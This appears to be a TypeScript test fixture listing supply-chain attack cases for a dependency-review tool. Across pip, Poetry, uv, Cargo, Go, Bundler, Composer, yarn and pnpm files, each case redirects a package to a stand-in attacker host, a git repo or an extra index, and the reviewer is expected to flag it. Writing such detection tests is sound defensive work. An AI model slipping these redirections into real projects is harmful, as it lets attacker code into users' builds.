import type { Attack, Tree } from '../attack.js';

const sources = (name: string, base: Tree, change: Tree, comment: RegExp): Attack => ({
  name,
  base,
  change,
  answer: 'told',
  comment,
});
const SHA = 'cd'.repeat(20);

const CARGO_TOML = (line: string) => `[package]\nname = "shop"\nversion = "0.1.0"\n\n[dependencies]\n${line}\n`;
const CARGO_LOCK = (source: string) =>
  `version = 4\n\n[[package]]\nname = "libc"\nversion = "0.2.170"\nsource = "${source}"\n\n[[package]]\nname = "shop"\nversion = "0.1.0"\ndependencies = ["libc"]\n`;
const CRATES = 'registry+https://github.com/rust-lang/crates.io-index';
const GO = (more = '') => `module example.com/shop\n\ngo 1.24\n\nrequire github.com/google/uuid v1.6.0\n${more}`;
const GEM = (head: string) =>
  `${head}  specs:\n    puma (6.4.3)\n\nPLATFORMS\n  ruby\n\nDEPENDENCIES\n  puma${head.startsWith('GIT') ? '!' : ''}\n\nBUNDLED WITH\n   2.5.0\n`;
const COMPOSER = (dist: string) =>
  `{ "packages": [{ "name": "psr/log", "version": "3.0.2", "dist": { "type": "zip", "url": "${dist}" } }], "packages-dev": [] }\n`;
const POETRY = (source = '') =>
  `[[package]]\nname = "idna"\nversion = "3.10"\noptional = false\ngroups = ["main"]\n${source}\n[metadata]\nlock-version = "2.1"\n`;
const UV = (source: string) =>
  `version = 1\nrequires-python = ">=3.12"\n\n[[package]]\nname = "idna"\nversion = "3.10"\nsource = ${source}\n`;
const YARN = (resolved: string) => `# yarn lockfile v1\n\n\nms@2.1.3:\n  version "2.1.3"\n  resolved "${resolved}"\n`;
const PNPM = (resolution: string) =>
  `lockfileVersion: '9.0'\nimporters:\n  .:\n    dependencies:\n      ms:\n        specifier: 2.1.3\n        version: 2.1.3\npackages:\n  ms@2.1.3:\n    resolution: ${resolution}\nsnapshots:\n  ms@2.1.3: {}\n`;
const WEB = '{ "name": "web", "dependencies": { "ms": "2.1.3" } }\n';

/** New places of origin that are no registry, in the words of each package manager. */
export const SOURCES: readonly Attack[] = [
  sources(
    'has pip fetch an address beside a name',
    { 'requirements.txt': 'idna==3.10\n' },
    { 'requirements.txt': 'idna==3.10\nquiet @ https://files.mallory.example/quiet-9.9.9.tar.gz\n' },
    /quiet|requirements/,
  ),
  sources(
    'has pip fetch over git',
    { 'requirements.txt': 'idna==3.10\n' },
    { 'requirements.txt': `idna==3.10\ngit+https://github.com/mallory/quiet@${SHA}#egg=quiet\n` },
    /quiet|requirements/,
  ),
  sources(
    'has pip ask an index of their own',
    { 'requirements.txt': 'idna==3.10\n' },
    { 'requirements.txt': '--extra-index-url https://pypi.mallory.example/simple\nidna==3.10\n' },
    /requirements|index/,
  ),
  sources(
    'has Poetry fetch over git',
    { 'poetry.lock': POETRY() },
    {
      'poetry.lock': POETRY(
        `\n[package.source]\ntype = "git"\nurl = "https://github.com/mallory/idna"\nreference = "main"\nresolved_reference = "${SHA}"\n`,
      ),
    },
    /idna/,
  ),
  sources(
    'has uv fetch over git',
    { 'uv.lock': UV('{ registry = "https://pypi.org/simple" }') },
    { 'uv.lock': UV(`{ git = "https://github.com/mallory/idna?rev=main#${SHA}" }`) },
    /idna/,
  ),
  sources(
    'has uv ask a registry of their own',
    { 'uv.lock': UV('{ registry = "https://pypi.org/simple" }') },
    { 'uv.lock': UV('{ registry = "https://pypi.mallory.example/simple" }') },
    /idna/,
  ),
  sources(
    'has Cargo fetch over git',
    { 'Cargo.toml': CARGO_TOML('libc = "0.2"'), 'Cargo.lock': CARGO_LOCK(CRATES) },
    { 'Cargo.lock': CARGO_LOCK(`git+https://github.com/mallory/libc#${SHA}`) },
    /libc/,
  ),
  sources(
    'has Cargo ask a registry of their own',
    { 'Cargo.toml': CARGO_TOML('libc = "0.2"'), 'Cargo.lock': CARGO_LOCK(CRATES) },
    { 'Cargo.lock': CARGO_LOCK('registry+https://crates.mallory.example/index') },
    /libc/,
  ),
  sources(
    'has Go replace a module by their own',
    { 'go.mod': GO() },
    { 'go.mod': GO('\nreplace github.com/google/uuid => github.com/mallory/uuid v1.6.0\n') },
    /uuid/,
  ),
  sources(
    'has Go replace a module by an affected one',
    { 'go.mod': GO() },
    { 'go.mod': GO('\nreplace github.com/google/uuid => github.com/gin-gonic/gin v1.7.0\n') },
    /gin/,
  ),
  sources(
    'has Bundler fetch over git',
    { Gemfile: "gem 'puma'\n", 'Gemfile.lock': GEM('GEM\n  remote: https://rubygems.org/\n') },
    { 'Gemfile.lock': GEM(`GIT\n  remote: https://github.com/mallory/puma.git\n  revision: ${SHA}\n`) },
    /puma/,
  ),
  sources(
    'has Bundler ask a source of their own',
    { Gemfile: "gem 'puma'\n", 'Gemfile.lock': GEM('GEM\n  remote: https://rubygems.org/\n') },
    { 'Gemfile.lock': GEM('GEM\n  remote: https://gems.mallory.example/\n') },
    /puma/,
  ),
  sources(
    'has Composer fetch an archive of their own',
    {
      'composer.lock': COMPOSER(
        'https://api.github.com/repos/php-fig/log/zipball/f16e1d5863e37f8d8c2a01719f5b34baa2b714d3',
      ),
    },
    { 'composer.lock': COMPOSER('https://files.mallory.example/log.zip') },
    /psr\/log/,
  ),
  sources(
    'has yarn fetch another package’s tarball',
    { 'web/package.json': WEB, 'web/yarn.lock': YARN('https://registry.yarnpkg.com/ms/-/ms-2.1.3.tgz#aa') },
    { 'web/yarn.lock': YARN('https://registry.yarnpkg.com/lodash/-/lodash-4.17.20.tgz#aa') },
    /ms|lodash/,
  ),
  sources(
    'has yarn fetch an archive of a repository',
    { 'web/package.json': WEB, 'web/yarn.lock': YARN('https://registry.yarnpkg.com/ms/-/ms-2.1.3.tgz#aa') },
    { 'web/yarn.lock': YARN(`https://codeload.github.com/mallory/ms/tar.gz/${SHA}`) },
    /ms/,
  ),
  sources(
    'has pnpm fetch a tarball of their own',
    { 'web/package.json': WEB, 'web/pnpm-lock.yaml': PNPM('{ integrity: sha512-aa }') },
    { 'web/pnpm-lock.yaml': PNPM('{ tarball: https://npm.mallory.example/ms.tgz }') },
    /ms/,
  ),
];
